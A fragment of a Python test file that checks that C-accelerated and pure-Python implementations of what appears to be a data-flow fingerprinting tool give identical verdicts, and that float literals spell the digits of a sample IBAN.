    **{f"flow:{k}": (REAL_ENV, v) for k, v in FLOWS.items()},
    **{f"false-alarm:{k}": (v[0], v[1]) for k, v in FALSE_ALARMS.items()},
}


@pytest.mark.parametrize("row", sorted(_ALL_ROWS))
def test_the_c_loops_and_the_python_references_give_the_same_verdicts(row: str) -> None:
    if not tails_module.ACCELERATED or not fingerprints.ACCELERATED:
        pytest.skip("the C loops are off (not built, or INTERLOCK_NO_SPEEDUPS)")
    env, calls = _ALL_ROWS[row]
    on_c = _verdicts_on(env, calls, accelerated=True)
    fingerprints._accelerate(False)
    try:
        on_python = _verdicts_on(env, calls, accelerated=False)
    finally:
        fingerprints._accelerate(True)
    assert on_c == on_python


def test_the_float_rows_spell_the_ibans_digits() -> None:
    """The float rows spell the IBAN's digits (no row leans on a typo)."""
    iban = "89370400440532013000"
    assert iban == "8937040044" + "0532013000"
    assert "8937040044" in "8.937040044e-05".replace(".", "")
    assert "40532013" in "4.40532013e-07".replace(".", "")
    assert iban.startswith(str(Decimal("8.937040044E-5")).lstrip("0.").replace(".", ""))
